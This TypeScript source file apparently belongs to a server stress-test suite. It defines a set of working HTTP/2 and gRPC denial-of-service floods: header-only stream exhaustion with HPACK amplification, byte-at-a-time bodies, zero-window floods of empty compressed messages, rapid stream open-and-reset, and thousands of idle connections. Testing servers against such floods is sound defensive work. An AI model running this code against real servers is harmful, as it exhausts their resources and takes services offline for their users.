import { setImmediate as turn } from 'node:timers/promises';
import {
  callHeaders,
  DATA,
  END_HEADERS,
  frame,
  HEADERS,
  hpack,
  type RawHttp2,
  RST_STREAM,
  SETTINGS,
} from '../frames.ts';
import { type Flood, METHOD, NO_WINDOW, REFLECTION, strange, type Target } from './flood.ts';

/** A message of 65,535 bytes begins. */
const LONG_PREFIX = Buffer.from([0, 0, 0, 0xff, 0xff]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Requests of which only the headers come. */
export const BEGUN: readonly Flood[] = [
  begun('requests are begun and not sent', 4, { streams: 4000 }),
  likeAnother(begun('requests are begun on many connections', 60, {})),
  likeAnother(begun('two bytes of headers stand for kilobytes', 12, { uses: 2 })),
  begun('headers are larger than a call may have', 12, { uses: 14 }),
  likeAnother(
    begun('headers are larger than announced, from callers who did not listen', 12, {
      uses: 15,
      isDeaf: true,
    }),
  ),
];

/** Requests that arrive in small pieces, hold a great deal, or are given up. */
export const REQUESTS: readonly Flood[] = [
  { title: 'a body arrives a byte at a time', attack: sendByBytes },
  thousands(METHOD),
  likeAnother(thousands(REFLECTION)),
  { title: 'streams are reset as soon as they are open', attack: openAndReset },
  {
    title: 'thousands of connections say hello and nothing else',
    attack: sayHello,
    isSameByAllPaths: true,
    isLikeAnother: true,
  },
];

function likeAnother(flood: Flood): Flood {
  return { ...flood, isLikeAnother: true };
}

/** Opens that many streams on each connection, each with `uses` references to a field of 4 KB. */
function begun(
  title: string,
  connections: number,
  { streams = 190, uses = 0, isDeaf = false },
): Flood {
  return {
    title,
    async attack({ ways, connect, connectDeaf }) {
      for (const [address, type] of ways) {
        for (let connection = 0; connection < connections; connection += 1) {
          const raw = await (isDeaf ? connectDeaf : connect)(address);
          await openStreams(raw, type, streams, uses);
        }
      }
    },
  };
}

async function openStreams(raw: RawHttp2, type: string, count: number, uses: number) {
  const name = hpack({ 'x-a': 'v'.repeat(3900) });
  const entry = Buffer.concat([Buffer.from([0x40]), name.subarray(1)]);
  const call = callHeaders(METHOD, strange(type));
  for (let index = 0; index < count; index += 1) {
    const field = index === 0 && uses > 0 ? entry : Buffer.alloc(0);
    const block = Buffer.concat([call, field, Buffer.alloc(uses, 0xbe)]);
    raw.write(frame(HEADERS, END_HEADERS, 2 * index + 1, block));
    if (index % 200 === 0) await turn();
  }
}

async function sendByBytes({ ways, connect }: Target): Promise<void> {
  for (const [address, type] of ways) {
    const raw = await connect(address);
    const streams = Array.from({ length: 100 }, (_, index) => 2 * index + 1);
    for (const stream of streams) {
      raw.call(stream, METHOD, strange(type));
      raw.write(frame(DATA, 0, stream, LONG_PREFIX));
    }
    const bytes = Buffer.concat(streams.map((each) => frame(DATA, 0, each, Buffer.alloc(1))));
    for (let count = 0; count < 2000; count += 1) {
      raw.write(bytes);
      if (count % 20 === 0) await turn();
    }
  }
}

/** Messages that say that they are compressed, and have nothing in them. */
function thousands(path: string): Flood {
  const headers = { ...strange('application/grpc+proto'), 'grpc-encoding': 'gzip' };
  const messages = Buffer.alloc(16_380, Buffer.from([1, 0, 0, 0, 0]));
  return {
    title: `a frame holds thousands of messages: ${path}`,
    async attack({ ways, connect }) {
      for (const [address] of ways.slice(0, 1)) {
        for (let connection = 0; connection < 10; connection += 1) {
          const raw = await connect(address);
          raw.write(frame(SETTINGS, 0, 0, NO_WINDOW));
          for (let stream = 1; stream < 8; stream += 2) {
            raw.call(stream, path, headers);
            raw.write(frame(DATA, 0, stream, messages));
          }
          await turn();
        }
      }
    },
  };
}

async function openAndReset({ ways, connect }: Target): Promise<void> {
  const block = callHeaders(METHOD, strange('application/grpc'));
  for (const [address] of ways) {
    const raw = await connect(address);
    for (let stream = 1; stream < 60_000; stream += 2) {
      raw.write(frame(HEADERS, END_HEADERS, stream, block));
      raw.write(frame(RST_STREAM, 0, stream, CANCEL));
      if (stream % 501 === 0) await turn();
    }
  }
}

async function sayHello({ ways, connectDeaf }: Target): Promise<void> {
  for (let count = 0; count < 1500; count += 1) {
    for (const [address] of ways) await connectDeaf(address);
  }
}
